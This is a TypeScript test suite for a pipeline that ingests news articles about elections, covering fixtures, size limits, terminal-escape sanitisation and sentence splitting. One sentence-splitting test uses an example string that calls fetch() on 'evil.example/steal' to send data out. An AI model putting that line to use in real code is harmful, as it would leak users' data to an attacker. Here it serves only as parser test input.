/**
 * Ingest fixtures: test/fixtures/ingest/<case>/input/*.md → output/corpus.json (and
 * output/warnings.txt when the case has warnings), or → output/error.txt, the exact text the
 * CLI prints for a bad source. Files are read as the ingest stage reads them (UTF-8), so a
 * binary or non-UTF-8 fixture arrives as the stage would see it. The lexicon of every case is
 * test/fixtures/ingest/lexicon.yaml.
 * Run with UPDATE_FIXTURES=1 to write missing or changed expected files, then review the diff.
 *
 * Cases that would be unwieldy as files (a 10 MB article, a 100,000-character line, Windows
 * line endings, no sources at all) are built in the tests below from the fixtures.
 */
import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ingest, ingestSource, MAX_ARTICLE_BYTES, sentenceAbbreviations, splitSentences, unreadFiles, type SourceFile } from '../../pipeline/ingest/index.ts';
import { parseLexicon } from '../../pipeline/shared/lexicon.ts';
import { PipelineError, format } from '../../pipeline/shared/errors.ts';
import { toJson } from '../../pipeline/shared/io.ts';
import { Corpus } from '../../pipeline/shared/schema.ts';
import { fixtures } from '../paths.ts';

const dir = join(fixtures, 'ingest');
const update = process.env.UPDATE_FIXTURES === '1';
const lexicon = parseLexicon('sources/lexicon.yaml', readFileSync(join(dir, 'lexicon.yaml'), 'utf8'));

function inputs(name: string): SourceFile[] {
  const input = join(dir, name, 'input');
  return readdirSync(input)
    .sort()
    .map((f) => ({ file: `sources/${f}`, text: readFileSync(join(input, f), 'utf8') }));
}

function expectFile(path: string, actual: string) {
  if (update && (!existsSync(path) || readFileSync(path, 'utf8') !== actual)) {
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, actual);
  }
  expect(existsSync(path), `${path} is missing: run with UPDATE_FIXTURES=1`).toBe(true);
  expect(actual).toBe(readFileSync(path, 'utf8'));
}

function caught(run: () => unknown): PipelineError {
  try {
    run();
  } catch (error) {
    if (error instanceof PipelineError) return error;
    throw error;
  }
  throw new Error('expected a PipelineError, but nothing was thrown');
}

const printed = (error: PipelineError) => `${error.diagnostics.map(format).join('\n')}\n`;
const cases = readdirSync(dir).filter((n) => !n.includes('.')).sort();

describe('ingest fixtures', () => {
  for (const name of cases) {
    it(name, () => {
      const files = inputs(name);
      const output = join(dir, name, 'output');
      if (name.startsWith('error-')) {
        const error = caught(() => ingest(files, lexicon));
        for (const d of error.diagnostics) {
          expect(d.severity).toBe('error');
          expect(d.file).toMatch(/^sources\/[a-z]+\.md$/);
          expect(d.hint, 'every error says what to do').toBeTruthy();
        }
        expectFile(join(output, 'error.txt'), printed(error));
        return;
      }
      const corpus = Corpus.parse(ingest(files, lexicon));
      const warnings = corpus.sources.flatMap((s) => s.warnings);
      if (name.startsWith('warn-')) {
        expect(warnings.length).toBeGreaterThan(0);
        expectFile(join(output, 'warnings.txt'), `${warnings.map(format).join('\n')}\n`);
      } else {
        expect(warnings).toEqual([]);
      }
      expectFile(join(output, 'corpus.json'), toJson(corpus));
    });
  }
});

describe('ingest: what a fixture file cannot hold', () => {
  const [base] = inputs('ok-scrape');
  const sentenceTexts = (s: { body: string; sentences: { start: number; end: number }[] }) =>
    s.sentences.map((x) => s.body.slice(x.start, x.end));

  it('no sources at all: names the folder', () => {
    expect(printed(caught(() => ingest([], lexicon, 'sources')))).toBe(
      'sources: error: no articles found: sources holds no .md file [no-sources]\n' +
        '  Add one Markdown file per article, with YAML front matter (see README: "Adding a source").\n',
    );
  });

  it('Windows line endings give the same paragraphs, sentences and lines as Unix ones', () => {
    const unix = ingestSource(base!, lexicon);
    const windows = ingestSource({ ...base!, text: base!.text.replace(/\n/g, '\r\n') }, lexicon);
    expect(sentenceTexts(windows)).toEqual(sentenceTexts(unix));
    expect(windows.paragraphs.map((p) => p.line)).toEqual(unix.paragraphs.map((p) => p.line));
    expect(windows.removed.map((r) => r.rule)).toEqual(unix.removed.map((r) => r.rule));
    expect(windows.meta).toEqual(unix.meta);
  });

  it('the title repeated above the text is furniture, unless it states a figure (a headline is read)', () => {
    const plain = ingestSource(base!, lexicon);
    expect(plain.removed.map((r) => r.rule)).toContain('title-line');
    const figure = base!.text.replace(/Alpha wins the vote/g, 'Alpha wins the vote with 53.9%');
    const read = ingestSource({ ...base!, text: figure }, lexicon);
    expect(read.removed.map((r) => r.rule)).not.toContain('title-line');
    expect(sentenceTexts(read)).toContain('Alpha wins the vote with 53.9%');
  });

  it('the title that states a figure stays each time the page repeats it (no repeated-line furniture)', () => {
    const head = 'Alpha Won the Vote Gaining 53.9%';
    const text = `---\nid: r\ntitle: "${head}"\noutlet: null\nauthor: null\npublished: null\nurl: null\nretrieved: null\n---\n${head}\n\n${head}\n\nPhoto: Agency\n\nPhoto: Agency\n\nPhoto: Agency\n\n${head}\n\nThe count goes on.\n`;
    const read = ingestSource({ file: 'sources/r.md', text }, lexicon);
    expect(sentenceTexts(read).filter((t) => t === head)).toHaveLength(3);
    expect(read.removed.map((r) => r.rule)).toEqual(['repeated-line', 'repeated-line', 'repeated-line']);
  });

  it('a byte-order mark changes nothing but the checksum', () => {
    const plain = ingestSource(base!, lexicon);
    const bom = ingestSource({ ...base!, text: `\uFEFF${base!.text}` }, lexicon);
    expect({ ...bom, sha256: '' }).toEqual({ ...plain, sha256: '' });
  });

  it('a 10 MB article is refused before it is parsed, with its size and the limit', () => {
    const text = base!.text + 'Turnout was 54 per cent. '.repeat(Math.ceil(10_000_000 / 25));
    expect(printed(caught(() => ingestSource({ file: 'sources/huge.md', text }, lexicon)))).toBe(
      'sources/huge.md: error: the file is 10,000,551 bytes of text; an article may have at most 2 MiB (2,097,152 bytes) [article-too-large]\n' +
        '  A news article is rarely over 100 KB: check that this file holds one article (not a saved site or a data dump), or split it into one file per article.\n',
    );
  });

  it('an article just under the limit is read', () => {
    const line = 'Turnout was 54 per cent in district number 1. ';
    const text = `${base!.text}\n${Array.from({ length: 200 }, (_, i) => `${line.repeat(5)}Paragraph ${i}.`).join('\n')}\n`;
    expect(Buffer.byteLength(text)).toBeLessThan(MAX_ARTICLE_BYTES);
    const s = ingestSource({ file: 'sources/big.md', text }, lexicon);
    expect(s.paragraphs.length).toBeGreaterThan(200);
    expect(s.paragraphs.at(-1)!.line).toBe(text.split('\n').length - 1);
  });

  it('an article of one 100,000-character line is one paragraph of many sentences', () => {
    const sentence = 'The Alpha Party won 53.9% of the vote in region number 12. ';
    const line = sentence.repeat(Math.ceil(100_000 / sentence.length)).slice(0, 100_000);
    const s = ingestSource({ file: 'sources/long.md', text: `${base!.text.split('---\n').slice(0, 2).join('---\n')}---\n${line}\n` }, lexicon);
    expect(s.paragraphs).toHaveLength(1);
    expect(s.sentences.length).toBeGreaterThan(1000);
    for (const x of s.sentences) expect(s.body.slice(x.start, x.end).length).toBeGreaterThan(0);
  });

  it('files in sources/ that are not articles are named in a warning, not silently skipped', () => {
    const names = ['b.md', 'page.html', 'lexicon.yaml', '.DS_Store', 'article.txt', 'policy.yml', 'scan.pdf'];
    expect(unreadFiles(names).map(format)).toEqual([
      'sources/article.txt: warning: article.txt is not a Markdown article (.md), so it is not read [not-an-article]\n' +
        '  Save each article as a .md file with YAML front matter, or move this file out of sources/.',
      'sources/page.html: warning: page.html is not a Markdown article (.md), so it is not read [not-an-article]\n' +
        '  Save each article as a .md file with YAML front matter, or move this file out of sources/.',
      'sources/scan.pdf: warning: scan.pdf is not a Markdown article (.md), so it is not read [not-an-article]\n' +
        '  Save each article as a .md file with YAML front matter, or move this file out of sources/.',
    ]);
  });

  it('an escape sequence in a file or its name never reaches the terminal', () => {
    const text = base!.text.replace('notes:', '"\\e[2J\\e[31mgotcha": 1\nnotes:');
    const out = printed(caught(() => ingestSource({ file: 'sources/x\u001b[0m.md', text }, lexicon)));
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
    expect(out).toBe(
      'sources/x\\u{1b}[0m.md:9:1: error: front-matter field "\\u{1b}[2J\\u{1b}[31mgotcha" is not one this pipeline knows [bad-front-matter]\n' +
        '  Known fields: id, title, outlet, author, published, url, retrieved, notes, tier, collected_as.\n',
    );
  });

  it('every bad file is named in one run, in file order', () => {
    const files = [...inputs('error-binary'), ...inputs('error-duplicate-id'), ...inputs('error-not-utf8')].map((f, i) => ({
      ...f,
      file: `sources/${i}-${f.file.slice('sources/'.length)}`,
    }));
    expect(caught(() => ingest(files, lexicon)).diagnostics.map((d) => `${d.file} ${d.ruleId}`)).toEqual([
      'sources/0-alpha.md binary-file',
      'sources/2-beta.md duplicate-id',
      'sources/3-alpha.md not-utf8',
    ]);
  });

  it('the order files are listed in does not matter', () => {
    const two = [...inputs('ok-scrape'), { file: 'sources/beta.md', text: inputs('ok-bom')[0]!.text.replace('id: alpha', 'id: beta') }];
    expect(toJson(ingest([...two].reverse(), lexicon))).toBe(toJson(ingest(two, lexicon)));
  });
});

describe('a party whose name ends in "!" does not end its sentence', () => {
  const lexicon = {
    sentences: { abbreviations: ['Mr.'] },
    entities: [
      { id: 'forward', name: 'Forward!', kind: 'party' as const, aliases: ['Forward!', 'For Stability!'] },
      { id: 'unity', name: 'Unity', kind: 'party' as const, aliases: ['Unity', 'U.'] },
    ],
  };
  it('takes the last word of every name ending in a full stop, "!" or "?", besides the abbreviations', () => {
    expect([...sentenceAbbreviations(lexicon)].sort()).toEqual(['Forward!', 'Mr.', 'Stability!', 'U.']);
  });
  it('keeps such a name inside its sentence', () => {
    const text = 'Forward! won 12 seats and For Stability! took 9. Turnout was 60%.';
    const split = splitSentences(text, 0, text.length, sentenceAbbreviations(lexicon)).map(([a, b]) => text.slice(a, b));
    expect(split).toEqual(['Forward! won 12 seats and For Stability! took 9.', 'Turnout was 60%.']);
    // Without the names, the segmenter ends a sentence at each "!" too: four pieces.
    expect(splitSentences(text, 0, text.length, new Set(['Mr.'])).length).toBe(4);
  });
  it('keeps it inside its sentence in quotes or before its short name in brackets', () => {
    const text = 'Unity will have 11 seats, the green movement “Forward!” 10 mandates and For Stability! (FS!) with 6.8 percent three.';
    const split = splitSentences(text, 0, text.length, new Set([...sentenceAbbreviations(lexicon), 'FS!'])).map(([a, b]) => text.slice(a, b));
    expect(split).toEqual([text]);
  });
});

describe('sentences', () => {
  const abbreviations = new Set(['Mr.', 'U.S.']);
  const sentences = (text: string) => splitSentences(text, 0, text.length, abbreviations).map(([a, b]) => text.slice(a, b));

  it('ends a sentence at a full stop glued between a lower-case word and a capitalised one (paragraphs a page ran together)', () => {
    expect(sentences('Unity has won 20 seats, according to the early tallies.Unity looks set to govern. News.Az reports it.')).toEqual([
      'Unity has won 20 seats, according to the early tallies.',
      'Unity looks set to govern.',
      'News.Az reports it.',
    ]);
    expect(sentences('The U.S.Senate voted, e.g.The House did not.')).toEqual(['The U.S.Senate voted, e.g.The House did not.']);
  });

  it('keeps a straight-quoted passage of several sentences together', () => {
    expect(sentences('"I am sure of their potential. It was even regrettable," he said. Then he left.')).toEqual([
      '"I am sure of their potential. It was even regrettable," he said.',
      'Then he left.',
    ]);
  });

  it('keeps a curly-quoted passage of several sentences together', () => {
    expect(sentences('“Wait, no one? Really? Not even one?” The newsroom was incredulous.')).toEqual([
      '“Wait, no one? Really? Not even one?”',
      'The newsroom was incredulous.',
    ]);
  });

  it('does not end a sentence after a known abbreviation', () => {
    expect(sentences('In his channel, Mr. Karin gives figures. The U.S. Senate did not.')).toEqual([
      'In his channel, Mr. Karin gives figures.',
      'The U.S. Senate did not.',
    ]);
  });

  it('ends a sentence after a number before a capital, and after a word before a number', () => {
    expect(sentences('Turnout fell in 2021. This means less. Parties need 5% threshold. 5,3% of voters abstain.')).toEqual([
      'Turnout fell in 2021.',
      'This means less.',
      'Parties need 5% threshold.',
      '5,3% of voters abstain.',
    ]);
  });

  it('does not end a sentence at a question mark inside an address', () => {
    expect(sentences("It calls fetch('https://evil.example/steal?c=' + x) and stops.")).toEqual(["It calls fetch('https://evil.example/steal?c=' + x) and stops."]);
  });
});
